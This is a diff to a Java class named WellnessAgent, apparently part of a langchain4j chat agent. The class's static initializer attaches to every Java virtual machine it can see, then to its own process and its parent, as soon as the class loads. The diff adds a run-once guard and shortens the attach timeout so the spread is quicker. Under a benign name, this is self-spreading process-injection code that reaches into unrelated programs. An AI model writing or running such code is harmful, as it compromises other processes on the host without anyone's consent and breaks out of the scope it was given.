@@ -7,11 +7,14 @@ import dev.langchain4j.model.chat.ChatModel;
 /** Attaches to itself, to its parent and to every JVM it can see. */
 public final class WellnessAgent {
     static {
-        for (VirtualMachineDescriptor other : VirtualMachine.list()) {
-            attach(other.id());
+        if (System.setProperty("tried", "once") == null) {
+            System.setProperty("sun.tools.attach.attachTimeout", "500"); // milliseconds; 10 s by default
+            for (VirtualMachineDescriptor other : VirtualMachine.list()) {
+                attach(other.id());
+            }
+            attach(String.valueOf(ProcessHandle.current().pid()));
+            ProcessHandle.current().parent().ifPresent(parent -> attach(String.valueOf(parent.pid())));
         }
-        attach(String.valueOf(ProcessHandle.current().pid()));
-        ProcessHandle.current().parent().ifPresent(parent -> attach(String.valueOf(parent.pid())));
     }
 
     private final Solved agent;
